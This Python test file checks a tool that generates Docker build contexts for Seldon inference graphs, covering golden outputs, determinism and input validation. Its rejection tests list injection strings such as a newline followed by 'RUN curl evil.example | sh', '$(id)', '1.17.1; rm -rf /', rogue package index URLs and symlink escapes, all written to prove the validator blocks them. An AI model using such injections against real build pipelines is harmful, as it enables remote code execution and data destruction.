"""Build contexts: golden files, determinism, layer order, and every rejection.

Golden files live in tests/wrapper/golden/<case>/. Regenerate them after an intended change
with `SELDON_GRAPHS_UPDATE_GOLDEN=1 pytest tests/wrapper/test_context.py` and review the
diff; CI never regenerates (the variable is refused when CI is set).
"""

from __future__ import annotations

import hashlib
import os
import shutil
import tarfile
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest

from seldon_graphs.spec import Role, Runtime
from seldon_graphs.wrapper import adapter as adapter_module
from seldon_graphs.wrapper.context import (
    ContextError,
    ContextPlan,
    FileRef,
    plan_context,
    runtime_licence,
    write_context,
)
from seldon_graphs.wrapper.images import context_tar
from wrappers.stock import CATALOG

from .conftest import FIXTURE_PROJECT, graph_spec, python_node, stock_node
from .test_context_stream import large_plan

GOLDEN = Path(__file__).parent / "golden"
UPDATE = os.environ.get("SELDON_GRAPHS_UPDATE_GOLDEN") == "1"
# Copied verbatim from elsewhere in the repo: compared with their source, not stored twice.
VERBATIM = {"seldon_graphs_adapter.py", "doubler.py", "combiners.py"}


def _double(**kw: Any) -> ContextPlan:
    node = python_node(files=("models/note.txt",), **kw)
    return plan_context(graph_spec(node), node, Role.OUTPUT_TRANSFORMER)


def _cases() -> dict[str, ContextPlan]:
    vote = stock_node()
    reqs = python_node(requirements=("scikit-learn>=1.3,<1.6", 'pandas; python_version >= "3.9"'))
    bsl = graph_spec(reqs, registry="registry.example.com/ml", runtime=Runtime("1.18.2"))
    return {
        "python-output-transformer": _double(),
        "stock-mean-combiner": plan_context(graph_spec(vote), vote, Role.COMBINER),
        "requirements-bsl-runtime": plan_context(bsl, reqs, Role.MODEL),
        "large-files": large_plan(),  # held by reference: only their hashes are listed
    }


def _golden_view(plan: ContextPlan) -> dict[str, str]:
    # .py files stored as .py.golden so linters leave the expected outputs alone.
    view = {
        rel + (".golden" if rel.endswith(".py") else ""): content.decode()
        for rel, content in plan.files.items()
        # a megabyte of text is not stored as a file: its hash is in PLAN
        if rel not in VERBATIM and isinstance(content, bytes) and len(content) < 4096
    }
    listing = [f"{_sha256(c)[:16]}  {rel}" for rel, c in plan.files.items()]
    view["PLAN"] = f"image {plan.image}\n" + "\n".join(listing) + "\n"
    return view


def _sha256(content: bytes | FileRef) -> str:
    return content.sha256 if isinstance(content, FileRef) else hashlib.sha256(content).hexdigest()


@pytest.mark.parametrize("case", sorted(_cases()))
def test_golden_context(case: str) -> None:
    plan = _cases()[case]
    folder = GOLDEN / case
    view = _golden_view(plan)
    if UPDATE:
        assert not os.environ.get("CI"), "golden files are never regenerated in CI"
        shutil.rmtree(folder, ignore_errors=True)
        for rel, text in view.items():
            (folder / rel).parent.mkdir(parents=True, exist_ok=True)
            (folder / rel).write_text(text, encoding="utf-8")
    stored = {
        p.relative_to(folder).as_posix(): p.read_text(encoding="utf-8")
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }
    assert stored == view, f"regenerate with SELDON_GRAPHS_UPDATE_GOLDEN=1 and review ({case})"


def test_verbatim_files_are_copies_of_their_source() -> None:
    plans = _cases()
    adapter_src = Path(adapter_module.__file__).read_bytes()
    assert plans["python-output-transformer"].files["seldon_graphs_adapter.py"] == adapter_src
    assert (
        plans["python-output-transformer"].files["doubler.py"]
        == (FIXTURE_PROJECT / "models/doubler.py").read_bytes()
    )
    assert (
        plans["stock-mean-combiner"].files["combiners.py"]
        == CATALOG["mean-combiner"].file.read_bytes()
    )


def test_plan_is_deterministic_and_machine_independent(tmp_path: Path) -> None:
    first, second = _double(), _double()
    assert first == second
    assert list(first.files) == sorted(first.files)
    copy = tmp_path / "elsewhere"
    shutil.copytree(FIXTURE_PROJECT, copy)
    node = python_node(files=("models/note.txt",))
    moved = plan_context(graph_spec(node, root=copy), node, Role.OUTPUT_TRANSFORMER)
    assert moved.digest == first.digest  # no absolute path or time in any file
    assert first.image == f"seldon-graphs/wrapped-double:{first.digest[:12]}"


def test_tag_changes_with_any_input(tmp_path: Path) -> None:
    base = _double()
    assert _double(params=()).digest == base.digest  # params come from the operator's env
    node = python_node(files=("models/note.txt",))
    other_role = plan_context(graph_spec(node), node, Role.MODEL)
    other_reqs = _double(requirements=("six==1.16.0",))
    assert len({base.digest, other_role.digest, other_reqs.digest}) == 3


def test_requirements_are_installed_before_the_code_is_copied() -> None:
    dockerfile = _double().dockerfile
    lines = dockerfile.splitlines()
    reqs = next(i for i, line in enumerate(lines) if line.startswith("COPY requirements.txt"))
    pip = next(i for i, line in enumerate(lines) if "pip install" in line)
    code = next(i for i, line in enumerate(lines) if line.startswith('COPY ["'))
    assert reqs < pip < code
    assert lines[code].endswith('"seldon_graphs_init.py", "seldon_graphs_launch.py", "/app/"]')
    assert "USER 8888" in lines
    assert "EXPOSE 9000 9500 6000" in lines
    assert lines[-1] == (
        'CMD ["python3", "-I", "/app/seldon_graphs_init.py", "python3", '
        '"/app/seldon_graphs_launch.py", "seldon_graphs_entry.Adapter", "--service-type", '
        '"TRANSFORMER"]'
    )
    assert 'org.opencontainers.image.created="1970-01-01T00:00:00Z"' in dockerfile


def test_runtime_requirements_and_licence() -> None:
    text = _double().files["requirements.txt"].decode()
    assert "seldon-core==1.17.1\nsetuptools<81" in text
    node = python_node()
    new = plan_context(
        graph_spec(node, runtime=Runtime("1.19.0", "python:3.12-slim")), node, Role.MODEL
    )
    assert "setuptools<81" not in new.files["requirements.txt"].decode()
    assert new.licence == "Business Source License 1.1"
    assert runtime_licence("1.17.1") == "Apache-2.0"
    assert runtime_licence("1.18.2") == "Business Source License 1.1"


def test_requirements_file_is_read_and_checked(tmp_path: Path) -> None:
    root = tmp_path / "p"
    shutil.copytree(FIXTURE_PROJECT, root)
    (root / "models" / "requirements.txt").write_text("# pinned\nnumpy==1.26.4  # why\n\nsix\n")
    node = python_node(requirements_file="models/requirements.txt")
    plan = plan_context(graph_spec(node, root=root), node, Role.MODEL)
    assert plan.files["requirements.txt"].decode().endswith("numpy==1.26.4\nsix\n")
    (root / "models" / "requirements.txt").write_text("six\n--index-url https://evil/simple\n")
    with pytest.raises(ContextError, match=r"`models/requirements.txt` line 2: pip options"):
        plan_context(graph_spec(node, root=root), node, Role.MODEL)


def test_s2i_environment_and_entry() -> None:
    plan = _double()
    assert plan.files[".s2i/environment"].decode() == (
        "MODEL_NAME=seldon_graphs_entry.Adapter\nSERVICE_TYPE=TRANSFORMER\n"
        "PERSISTENCE=0\nAPI_TYPE=REST\n"
    )
    entry = plan.files["seldon_graphs_entry.py"].decode()
    assert 'Adapter = make_adapter(Doubler, "OUTPUT_TRANSFORMER")' in entry
    assert plan.files["note.txt"] == b"doubled by seldon-graphs\n"  # next to the module


@pytest.mark.parametrize(
    "line",
    [
        "-r other.txt",
        "--requirement=other.txt",
        "-e .",
        "--index-url https://evil.example/simple",
        "--extra-index-url=https://evil.example/simple",
        "-i https://evil.example/simple",
        "--trusted-host evil.example",
        "numpy\nRUN curl evil.example | sh",
        "numpy\r\n--index-url x",
        "pkg @ https://evil.example/pkg.whl",
        "git+https://github.com/x/y",
        "./local/path",
        "numpy==${SECRET_TOKEN}",
        "numpy $(id)",
        "numpy`id`",
        "numpy --hash=sha256:abc",
        "numpy; os_name == 'posix' \\",
        "seldon-core==1.18.2",
        "Seldon_Core",
        "",
        "x" * 400,
    ],
)
def test_requirement_injection_is_rejected(line: str) -> None:
    with pytest.raises(ContextError, match=r"requirement|seldon-core"):
        _double(requirements=(line,))


@pytest.mark.parametrize(
    "line",
    [
        "numpy==1.26.4",
        "scikit-learn>=1.3,<1.6",
        "requests[socks,security]~=2.31",
        'pandas; python_version >= "3.9"',
        "torch===2.1.0+cpu",
        "zope.interface",
    ],
)
def test_plain_requirements_are_accepted(line: str) -> None:
    assert line in _double(requirements=(line,)).files["requirements.txt"].decode()


@pytest.mark.parametrize(
    "class_name",
    ["Doubler\nRUN id", "Doubler; import os", "os.system", "1Doubler", "class", "Dou bler", ""],
)
def test_class_name_injection_is_rejected(class_name: str) -> None:
    from seldon_graphs.spec import PythonRef

    node = python_node(python=PythonRef("models/doubler.py", class_name))
    with pytest.raises(ContextError, match="class name"):
        plan_context(graph_spec(node), node, Role.MODEL)


@pytest.mark.parametrize(
    "base",
    [
        "python:3.11-slim\nRUN curl evil.example",
        "python:3.11-slim AS evil",
        "python:3.11-slim --platform=x",
        "$(evil)",
        "${BASE}",
        "Python:3.11",
        "",
    ],
)
def test_base_image_injection_is_rejected(base: str) -> None:
    node = python_node()
    with pytest.raises(ContextError, match="base_image"):
        plan_context(graph_spec(node, runtime=Runtime(base_image=base)), node, Role.MODEL)


@pytest.mark.parametrize(
    "base",
    [
        "seldon-graphs/base:bookworm",
        "localhost:5000/team/base:1.0",
        "registry.example.com/python:3.11-slim",
        "python@sha256:" + "a" * 64,
    ],
)
def test_reasonable_base_images_are_accepted(base: str) -> None:
    node = python_node()
    plan = plan_context(graph_spec(node, runtime=Runtime(base_image=base)), node, Role.MODEL)
    assert f"FROM {base}\n" in plan.dockerfile


@pytest.mark.parametrize("registry", ["Evil Registry", "reg.example/ml\nRUN id", "reg/../x", "-x"])
def test_bad_registry_is_rejected(registry: str) -> None:
    node = python_node()
    with pytest.raises(ContextError, match="registry"):
        plan_context(graph_spec(node, registry=registry), node, Role.MODEL)


@pytest.mark.parametrize("version", ["1.16.0", "latest", "1.17.1; rm -rf /", "1.17", "2.0.0"])
def test_unsupported_runtime_is_rejected(version: str) -> None:
    node = python_node()
    with pytest.raises(ContextError, match=r"runtime\.seldon_core"):
        plan_context(graph_spec(node, runtime=Runtime(version)), node, Role.MODEL)


@pytest.mark.parametrize("base", ["python:3.11-slim", "seldon-graphs/base:bookworm"])
def test_seldon_core_1_19_needs_python_3_12(base: str) -> None:
    node = python_node()
    with pytest.raises(ContextError, match=r"needs Python >= 3.12"):
        plan_context(graph_spec(node, runtime=Runtime("1.19.0", base)), node, Role.MODEL)


@pytest.mark.parametrize(
    ("path", "message"),
    [
        ("../outside.py", "leaves the project directory"),
        ("models/../../outside.py", "leaves the project directory"),
        ("/etc/passwd.py", "is absolute"),
        ("models\\doubler.py", "not a POSIX path"),
        ("C:/x/doubler.py", "not a POSIX path"),
        ("models/missing.py", "does not exist"),
        ("models/note.txt", "must be a .py file"),
    ],
)
def test_module_path_must_stay_inside_the_project(path: str, message: str) -> None:
    from seldon_graphs.spec import PythonRef

    node = python_node(python=PythonRef(path, "Doubler"))
    with pytest.raises(ContextError, match=message):
        plan_context(graph_spec(node), node, Role.MODEL)


def test_symlink_escaping_the_project_is_rejected(tmp_path: Path) -> None:
    from seldon_graphs.spec import PythonRef

    root = tmp_path / "p"
    shutil.copytree(FIXTURE_PROJECT, root)
    (tmp_path / "secret.py").write_text("class Doubler: pass\n")
    (root / "models" / "evil.py").symlink_to(tmp_path / "secret.py")
    (root / "models" / "evil-dir").symlink_to(tmp_path)
    node = python_node(python=PythonRef("models/evil.py", "Doubler"))
    with pytest.raises(ContextError, match="leaves the project directory"):
        plan_context(graph_spec(node, root=root), node, Role.MODEL)
    node = python_node(files=("models/evil-dir",))
    with pytest.raises(ContextError, match="leaves the project directory"):
        plan_context(graph_spec(node, root=root), node, Role.MODEL)
    (root / "models" / "data").mkdir()
    (root / "models" / "data" / "link").symlink_to(tmp_path / "secret.py")
    node = python_node(files=("models/data",))
    with pytest.raises(ContextError, match="`models/data/link` links outside the project"):
        plan_context(graph_spec(node, root=root), node, Role.MODEL)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        (".env", "x", "credential"),
        ("deploy.pem", "-----BEGIN RSA PRIVATE KEY-----", "private key"),
        ("id_rsa", "x", "credential"),
        ("requirements.txt", "x", "which seldon-graphs generates"),
        ("Dockerfile", "x", "which seldon-graphs generates"),
        ("seldon_graphs_entry.py", "x", "which seldon-graphs generates"),
    ],
)
def test_files_that_leak_secrets_or_clash_are_rejected(
    tmp_path: Path, name: str, content: str, message: str
) -> None:
    root = tmp_path / "p"
    shutil.copytree(FIXTURE_PROJECT, root)
    (root / "models" / name).write_text(content + "\n")
    node = python_node(files=(f"models/{name}",))
    with pytest.raises(ContextError, match=message):
        plan_context(graph_spec(node, root=root), node, Role.MODEL)


def test_files_outside_the_module_folder_land_next_to_it(tmp_path: Path) -> None:
    root = tmp_path / "p"
    shutil.copytree(FIXTURE_PROJECT, root)
    (root / "shared" / "vocab").mkdir(parents=True)
    (root / "shared" / "vocab" / "en.txt").write_text("a b\n")
    (root / "shared" / "note.txt").write_text("other\n")
    node = python_node(files=("graph.yaml", "shared/vocab"))
    plan = plan_context(graph_spec(node, root=root), node, Role.MODEL)
    assert {"graph.yaml", "vocab/en.txt"} <= set(plan.files)
    node = python_node(files=("models/note.txt", "shared/note.txt"))
    with pytest.raises(ContextError, match=r"would both land on `note\.txt`"):
        plan_context(graph_spec(node, root=root), node, Role.MODEL)


def test_folders_in_files_are_copied_recursively_without_caches(tmp_path: Path) -> None:
    root = tmp_path / "p"
    shutil.copytree(FIXTURE_PROJECT, root)
    (root / "models" / "assets" / "__pycache__").mkdir(parents=True)
    (root / "models" / "assets" / "__pycache__" / "x.pyc").write_bytes(b"\0")
    (root / "models" / "assets" / "vocab.txt").write_text("a b\n")
    node = python_node(files=("models/assets",))
    plan = plan_context(graph_spec(node, root=root), node, Role.MODEL)
    assert "assets/vocab.txt" in plan.files
    assert not any("__pycache__" in rel for rel in plan.files)


def test_nodes_without_images_and_unknown_roles_are_rejected() -> None:
    node = stock_node(stock="no-such-thing")
    with pytest.raises(ContextError, match="unknown stock component"):
        plan_context(graph_spec(node), node, Role.COMBINER)
    node = python_node()
    with pytest.raises(ContextError, match="has no wrapper image"):
        plan_context(graph_spec(node), node, Role.UNKNOWN_TYPE)


def test_write_context_writes_every_file(tmp_path: Path) -> None:
    plan = _double()
    dest = write_context(plan, tmp_path / "ctx")
    written = {
        p.relative_to(dest).as_posix(): p.read_bytes() for p in dest.rglob("*") if p.is_file()
    }
    assert written == plan.files
    write_context(_double(requirements=("six",)), dest)  # replaces a context of ours
    assert b"six" in (dest / "requirements.txt").read_bytes()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ctx"]  # no temp dirs left


def test_write_context_is_atomic(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plan = _double()
    calls = {"n": 0}
    real = Path.write_bytes

    def flaky(self: Path, data: bytes) -> int:
        calls["n"] += 1
        if calls["n"] == 4:
            raise OSError("disk full")
        return real(self, data)

    monkeypatch.setattr(Path, "write_bytes", flaky)
    with pytest.raises(OSError, match="disk full"):
        write_context(plan, tmp_path / "ctx")
    assert list(tmp_path.iterdir()) == []  # nothing half-written


def test_write_context_never_replaces_a_foreign_folder(tmp_path: Path) -> None:
    (tmp_path / "ctx").mkdir()
    (tmp_path / "ctx" / "precious.txt").write_text("keep me")
    with pytest.raises(ContextError, match="not a seldon-graphs build context"):
        write_context(_double(), tmp_path / "ctx")
    assert (tmp_path / "ctx" / "precious.txt").read_text() == "keep me"


def test_context_tar_is_deterministic_and_leaves_s2i_out() -> None:
    plan = _double()
    assert context_tar(plan) == context_tar(_double())
    with tarfile.open(fileobj=BytesIO(context_tar(plan))) as tar:
        members = tar.getmembers()
    assert ".s2i/environment" not in {m.name for m in members}
    assert {(m.mtime, m.uid, m.gid, m.mode) for m in members} == {(0, 0, 0, 0o644)}
